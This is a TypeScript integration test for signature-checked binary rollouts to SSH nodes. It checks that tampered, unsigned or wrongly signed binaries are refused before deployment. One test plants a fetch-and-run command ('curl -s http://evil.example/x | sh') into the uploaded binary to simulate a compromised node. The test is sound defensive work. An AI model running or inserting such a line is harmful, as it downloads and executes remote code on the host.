/**
 * A signed release's node binary against real SSH nodes (reference/sshFleet.ts: Debian's sshd and openssl): the
 * binary is signed with the real `cosign sign-blob` (scripts/build-signing.sh), checked on this machine before any
 * node is touched, and again on every node with openssl after the upload and before the swap (lib/signatures/node.ts).
 *   - signed: every node runs the release, each says which key verified it, nothing of the check is left behind;
 *   - a binary changed on the node after the upload (what a compromised node or a corrupted transfer gives): that node
 *     refuses it before the swap — the running program untouched (same version, same process), the upload removed —
 *     and no other node is touched; the next run deploys;
 *   - unsigned, or signed by another key: refused here, before any node (no backup taken anywhere).
 */
import { expect } from "chai";
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import * as path from "path";
import { nodeAddress } from "../../../lib/nodes/address";
import { RolloutSpec, runRollout } from "../../../lib/nodes/rollout";
import { keyFingerprint } from "../../../lib/signatures/keys";
import { startFleet, TestFleet, writeAlysBinary } from "../../../reference/sshFleet";
import { generateKeyPair, KeyPair, signBlob, signingTools, SigningTools } from "../../../reference/signing";

describe("a signed node binary against real SSH nodes", function () {
    this.timeout(300_000);
    let tools: SigningTools;
    let release: KeyPair;
    let stranger: KeyPair;
    let fleet: TestFleet | undefined;

    before(async function () {
        this.timeout(3_600_000); // a cold build of cosign (scripts/test.sh builds it before the suites: a version check here)
        tools = signingTools();
        const dir = mkdtempSync(path.join(tmpdir(), "keys-"));
        release = await generateKeyPair(tools, dir, "release");
        stranger = await generateKeyPair(tools, dir, "stranger");
    });
    afterEach(async () => { await fleet?.stop(); fleet = undefined; });

    /** A release binary signed by `keys` (undefined: no signature file), and a rollout spec over the fleet. */
    async function signedSpec(f: TestFleet, keys: KeyPair | undefined, edit: Partial<RolloutSpec> = {}): Promise<RolloutSpec> {
        const work = mkdtempSync(path.join(tmpdir(), "signed-rollout-"));
        const binary = writeAlysBinary(path.join(work, "alys"), "v2.0.0");
        if (keys) await signBlob(tools, keys, binary);
        return {
            version: "v2.0.0", nodes: f.nodes.map(nodeAddress), privateKey: f.privateKey, binary, ...f.paths, serviceName: "alys",
            healthRetries: 600, healthIntervalSeconds: 0.1, firstNodeGraceSeconds: 0, nodeGraceSeconds: 0, pauseSeconds: 0,
            minFreeDiskGb: 0.001, serial: [1], contentHash: "signed",
            // A budget that would let a failed node be skipped: a refusal stops the rollout anyway.
            maxFailPercentage: 100,
            journalPath: path.join(work, "journal.json"), deploymentLog: path.join(work, "deployments.log"), operator: "test",
            signature: { file: `${binary}.sig`, keys: [{ name: "release", pem: release.pem }] },
            ...edit,
        };
    }
    const pidOf = (home: string) => readFileSync(path.join(home, "run.pid"), "utf8").trim();
    const leftovers = (home: string) => readdirSync(path.join(home, "opt/alys/bin")).filter((f) => f !== "alys");

    it("signed with the configured key: every node verifies it with openssl before the swap and runs it", async () => {
        fleet = await startFleet(2);
        const s = await signedSpec(fleet, release);
        const { journal, record } = await runRollout(s);
        expect(record).to.include({ status: "deployed", nodeCount: 2 });
        const signer = `release (${keyFingerprint(release.pem)})`;
        for (const n of fleet.nodes) {
            expect(fleet.installedVersion(n)).to.equal("v2.0.0");
            expect(await fleet.healthy(n)).to.equal(true);
            expect(journal.nodes[n.name].detail, n.name).to.equal(`signature verified on the node: ${signer}`);
            expect(leftovers(n.home), `${n.name}: the signature and keys are removed after the check`).to.deep.equal([]);
        }
    });

    it("a binary changed on the node after the upload is refused there before the swap: the running program untouched, no other node touched", async () => {
        fleet = await startFleet(2);
        const s = await signedSpec(fleet, release);
        const [first, second] = fleet.nodes;
        const pidBefore = pidOf(first.home);
        let tampered = false;
        const err = await runRollout(s, {
            onTransition: (node, status) => {
                // Between the upload and the swap: the file the node received is not the one that was signed.
                if (node === first.name && status === "uploaded") {
                    writeFileSync(path.join(first.home, "opt/alys/bin/alys.new"), readFileSync(s.binary, "utf8").replace("exit 0", "curl -s http://evil.example/x | sh; exit 0"));
                    tampered = true;
                }
            },
        }).then(() => undefined, (e: Error & { record?: { status: string; nodes?: Record<string, string> } }) => e);
        expect(tampered).to.equal(true);
        expect(err, "the rollout accepted a tampered binary").to.not.equal(undefined);
        const fp = keyFingerprint(release.pem);
        expect(err!.message).to.match(new RegExp(`${first.name}: /opt/alys/bin/alys\\.new \\(sha256:[0-9a-f]{64}\\) does not verify with release \\(${fp.replace(/[+/]/g, "\\$&")}\\): refused on the node before the swap; the running binary is untouched`));
        expect(err!.message).to.include(`${first.name} refused the binary before the swap (its signature did not verify on the node); no other node starts`);
        // The node refused: same binary, same process (never restarted), the upload and its signature gone.
        expect(fleet.installedVersion(first)).to.equal("v1.0.0");
        expect(pidOf(first.home), "the service was restarted").to.equal(pidBefore);
        expect(await fleet.healthy(first)).to.equal(true);
        expect(leftovers(first.home)).to.deep.equal([]);
        expect(err!.record?.nodes).to.deep.equal({ [first.name]: "refused", [second.name]: "untouched" });
        // No other node was touched: no backup, still the old version.
        expect(fleet.backups(second)).to.deep.equal([]);
        expect(fleet.installedVersion(second)).to.equal("v1.0.0");
        // The node keeps what happened in its own state; the next up (nothing tampered) deploys everywhere.
        const state = JSON.parse(readFileSync(path.join(first.home, "backups/rollback/.alys-rollout.json"), "utf8"));
        expect(state).to.include({ step: "refused", concluded: true });
        const again = await runRollout(s);
        expect(again.record.status).to.equal("deployed");
        for (const n of fleet.nodes) expect(fleet.installedVersion(n)).to.equal("v2.0.0");
    });

    for (const [name, keys, message] of [
        ["unsigned (no signature file)", undefined, /is unsigned: \S+alys\.sig is missing or empty \(expected a signature from release \(SHA256:/],
        ["signed by another key", "stranger", /: \S+alys\.sig verifies with none of release \(SHA256:[^)]+\) \(signed by another key, or the file changed after it was signed\)/],
    ] as const) {
        it(`${name}: refused on this machine before any node is touched`, async () => {
            fleet = await startFleet(2);
            const s = await signedSpec(fleet, keys === "stranger" ? stranger : undefined);
            const err = await runRollout(s).then(() => undefined, (e: Error) => e);
            expect(err, "the rollout accepted it").to.not.equal(undefined);
            expect(err!.message).to.match(/^pre-checks failed, no node was touched: the binary \S+\/alys \(sha256:[0-9a-f]{64}\)/);
            expect(err!.message).to.match(message);
            for (const n of fleet.nodes) {
                expect(fleet.backups(n), `${n.name} was touched`).to.deep.equal([]);
                expect(existsSync(path.join(n.home, "opt/alys/bin/alys.new"))).to.equal(false);
                expect(fleet.installedVersion(n)).to.equal("v1.0.0");
            }
        });
    }
});
